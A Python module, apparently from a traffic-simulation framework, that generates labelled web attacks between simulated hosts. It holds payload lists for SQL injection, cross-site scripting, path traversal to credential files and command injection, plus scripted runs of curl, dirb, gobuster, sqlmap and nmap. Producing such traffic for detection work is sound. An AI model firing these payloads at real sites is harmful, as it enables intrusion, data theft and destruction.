"""Looking for holes in web sites: word lists, injections, and the tools that do it wholesale."""
from urllib.parse import quote

from .. import words
from ..benign import AGENTS, MANY
from .job import attack

INJECTIONS = ("' OR '1'='1", "1; DROP TABLE users--", "' UNION SELECT 1,2,3--", "1' AND SLEEP(2)#", "admin'--",
              "1 OR 1=1", "') OR ('a'='a",
              "' AND 1=CONVERT(int,@@version)--")
SCRIPTS = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
           "javascript:alert(1)", "<body onload=alert(1)>")
TRAVERSALS = ("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/shadow",
              "/proc/self/environ", "php://filter/resource=index",
              "..\\..\\windows\\win.ini", "file:///etc/passwd")
COMMANDS = (";id", "|cat /etc/passwd", "$(whoami)", "`uname -a`", "&& ping -c 1 127.0.0.1",
            "${jndi:ldap://127.0.0.1/a}")


def _site(job):
    victim = job.victim()
    attacker = job.attacker(victim)
    tls = job.rng.random() < 0.35
    port = victim.services["tls" if tls else "web"]
    return attacker, victim, port, f"{'https' if tls else 'http'}://{victim.v4}:{port}"


def _probe(job, payloads, where):
    """curl, one request after the other or many over one connection, at a person's pace or a script's."""
    attacker, victim, port, base = _site(job)
    rng = job.rng
    with job.claim(attacker, victim, port=port):
        pause, batch = rng.choice((0.02, 0.2, 0.8)), rng.choice((1, 1, 5))
        for _ in range(rng.randint(20, 70) // batch):
            urls = [word for _ in range(batch) for word in ("-o", "/dev/null",
                                                            base + where(quote(rng.choice(payloads), safe="/.%")))]
            form = ["-d", f"user={quote(rng.choice(payloads))}&pass=x"] if rng.random() < 0.15 else []
            job.run(attacker, [*MANY, "--path-as-is", "-A", rng.choice(AGENTS), *form, *urls], 8)
            if not job.sleep(rng.uniform(0, 2 * pause)):
                break


@attack("web_attack", "curl", wants="web")
def sql_injection(job):
    _probe(job, INJECTIONS, lambda p: f"/app/search?{job.rng.choice(('q', 'id', 'user'))}={p}")


@attack("web_attack", "curl", wants="web")
def script_injection(job):
    _probe(job, SCRIPTS, lambda p: f"/app/search?q={p}")


@attack("web_attack", "curl", wants="web")
def path_traversal(job):
    _probe(job, TRAVERSALS, lambda p: f"{job.rng.choice(('/', '/img/', '/app/file?name=', '/cgi-bin/'))}{p}")


@attack("web_attack", "curl", wants="web")
def command_injection(job):
    _probe(job, COMMANDS, lambda p: f"/app/{job.rng.choice(('ping?host=', 'run?cmd=', 'search?q='))}{p}")


@attack("web_attack", "dirb", "gobuster", wants="web")
def path_guessing(job):
    attacker, victim, port, base = _site(job)
    listed = job.file("\n".join(words.paths(job.rng, job.rng.randint(80, 500))) + "\n")
    with job.claim(attacker, victim, port=port):
        if job.rng.random() < 0.5:
            job.run(attacker, ["dirb", base + "/", listed, "-S", "-r", "-w", *job.rng.choice(([], ["-z", "20"]))],
                    25)
        else:
            job.run(attacker, ["gobuster", "dir", "-k", "-q", "-u", base, "-w", listed, "-t",
                               job.rng.choice((1, 4, 10)), "--no-error",
                               "--timeout", "4s"], 25)


@attack("web_attack", "sqlmap", wants="web")
def sqlmap_run(job):
    attacker, victim, port, base = _site(job)
    with job.claim(attacker, victim, port=port):
        job.run(attacker, ["sqlmap", "--batch", "--flush-session", "--disable-coloring", "-u",
                           f"{base}/app/search?q=1", "--level", "1", "--risk", "1",
                           "--threads", job.rng.choice((1, 3)), "--technique", job.rng.choice(("B", "E", "BEU")),
                           "--timeout", "5"], 30)


@attack("web_attack", "nmap", wants="web")
def script_scanner(job):
    """nmap's own HTTP scripts: methods, headers, folders, forms."""
    attacker, victim, port, _ = _site(job)
    with job.claim(attacker, victim, port=port):
        job.run(attacker, ["nmap", "-n", "-Pn", "-sT", "--script",
                           "http-enum,http-methods,http-headers,http-sql-injection,http-userdir-enum",
                           "-p", port, victim.v4], 30)
